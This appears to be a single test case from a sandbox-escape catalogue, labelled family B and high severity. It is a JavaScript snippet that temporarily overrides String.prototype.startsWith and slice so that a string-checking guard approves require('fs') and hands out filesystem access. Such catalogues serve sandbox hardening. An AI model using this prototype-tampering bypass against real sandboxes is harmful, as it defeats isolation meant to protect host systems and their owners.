// technique: the methods of strings answer what the program wants, to the guard too
// family: B
// severity: H
// layers: policy, mount_namespace, landlock
const { startsWith, slice } = String.prototype;
readHost(() => {
  String.prototype.startsWith = () => true;
  String.prototype.slice = () => 'util';
  try { const fs = require('fs'); return () => fs; } finally { Object.assign(String.prototype, { startsWith, slice }); }
});
